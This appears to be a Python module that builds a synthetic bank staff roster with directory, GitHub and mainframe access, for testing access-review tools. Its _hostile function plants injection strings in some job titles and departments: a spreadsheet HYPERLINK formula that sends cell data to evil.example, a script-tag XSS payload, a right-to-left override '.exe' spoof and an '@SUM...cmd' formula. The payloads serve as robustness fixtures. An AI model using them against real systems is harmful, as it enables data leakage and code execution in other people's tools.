"""Everyone else: people whose access is what their work needs, and nothing that conflicts."""

from __future__ import annotations

from collections.abc import Callable

from maker import bank, plants_rules
from maker.plants import DIGITAL, ENGINEERING, OPERATIONS
from maker.world import HEADCOUNT, World, draw, pick

OFFICES: tuple[tuple[str, tuple[str, ...]], ...] = (
    ("Branch Network", ("Teller", "Branch manager", "Customer adviser")),
    ("Customer Care", ("Agent", "Team lead", "Complaints officer")),
    ("Finance", ("Accountant", "Controller", "Financial analyst")),
    ("Risk", ("Credit risk analyst", "Model validator")),
    ("Compliance", ("Compliance officer", "AML analyst")),
    ("Legal", ("Counsel", "Paralegal")),
    ("Human Resources", ("HR partner", "Recruiter", "Payroll clerk")),
    ("Treasury", ("Dealer", "Treasury analyst")),
    ("Marketing", ("Brand manager", "Content editor")),
)


def hire_crowd(world: World) -> None:
    """Fill the roster up to the headcount."""
    _teams(world)
    _strangers(world)
    while len(world.people) < HEADCOUNT - plants_rules.HIRED:
        number = len(world.people)
        department, titles = pick(f"office {number}", OFFICES)
        hired = world.person(department, pick(f"title {number}", titles))
        if draw(f"login {number}", 5):  # one of five has none
            world.ldap(hired, "all-staff", *(("vpn",) if draw(f"vpn {number}", 3) == 0 else ()))
    plants_rules.plant_rules(world)
    _hostile(world)
    _managers(world)


def _teams(w: World) -> None:
    jobs: tuple[tuple[int, str, str, Callable[[str], object]], ...] = (
        (9, ENGINEERING, "Developer", lambda n: (w.github(n, "payments-dev"), w.ldap(n, "vpn"))),
        (6, DIGITAL, "Developer", lambda n: (w.github(n, "onboarding-dev"), w.ldap(n, "vpn"))),
        (12, DIGITAL, "Developer", lambda n: (w.github(n, "ib-dev"), w.ldap(n, "ib-viewers"))),
        (2, DIGITAL, "Developer", lambda n: (w.github(n, "auth-dev"), w.ldap(n, "test-deployers"))),
        (3, OPERATIONS, "Operator", lambda n: w.ldap(n, "payments-deployers", "vpn")),
        (3, OPERATIONS, "Operator", lambda n: w.ldap(n, "onboarding-deployers")),
        (3, OPERATIONS, "Operator", lambda n: w.ldap(n, "ib-deployers")),
        (2, "Treasury IT", "Operator", lambda n: w.ldap(n, "treasury-deployers")),
        (3, "Platform", "Platform engineer", lambda n: w.ldap(n, "test-deployers", "vpn")),
        (2, "Security Operations", "Log engineer", lambda n: w.ldap(n, "log-config")),
        (2, "Identity", "Directory engineer", lambda n: w.ldap(n, "directory-admins")),
        (4, "Identity", "Help desk agent", lambda n: w.ldap(n, "helpdesk", "all-staff")),
        (5, "Mainframe", "Programmer", lambda n: w.mainframe(n, "C,B", "PAY")),
        (3, "Mainframe", "Change approver", lambda n: w.mainframe(n, "A,B", "*")),
        (3, "Mainframe", "Librarian", lambda n: w.mainframe(n, "P,B", "ONB")),
        (2, "Mainframe", "Analyst", lambda n: w.mainframe(n, "B", "GLX")),
    )
    for count, department, title, equip in jobs:
        for _ in range(count):
            equip(w.person(department, title))


def _strangers(w: World) -> None:
    """Accounts with harmless access that nobody on the roster can be tied to."""
    anyone = next(iter(w.people))
    for login in ("OPSARC1", "OPSARC2", "TESTUSR"):
        w.mainframe(anyone, "B", "PAY", login=login, written="", linked=False)
    for uid in ("svc-backup", "svc-scanner"):
        w.ldap(anyone, "vpn", uid=uid, mail="", employee="", linked=False, ou="services")
        key = f"ldap-north:uid={uid},ou=services,{bank.BASE_DN}"
        w.accounts[key].name = w.ldap_entries[uid].cn = f"Service {uid[4:]}"


def _hostile(w: World) -> None:
    """Text that a careless reader runs, shows or cuts."""
    office = [p for p in w.people.values() if p.department in dict(OFFICES)]
    office.sort(key=lambda person: person.number)
    office[0].title = '=HYPERLINK("http://evil.example/?"&A1;"Teller")'
    office[1].department = "</script><script>alert(1)</script>"
    office[2].title = "Analyst \u202egnp.exe"
    office[3].title = "Adviser,\nsecond line"
    office[4].title = "@SUM(1+1)*cmd"
    office[5].department = 'Finance "North"; EMEA'


def _managers(w: World) -> None:
    """One head per department, who reports to the chief executive; everyone else to the head."""
    heads: dict[str, str] = {}
    numbers = sorted(n for n, p in w.people.items() if p.status == "active" and p.kind == "person")
    for number in numbers:
        heads.setdefault(w.people[number].department, number)
    chief = numbers[0]
    for number, person in w.people.items():
        head = heads.get(person.department, chief)
        person.manager = head if head != number else chief if chief != number else ""
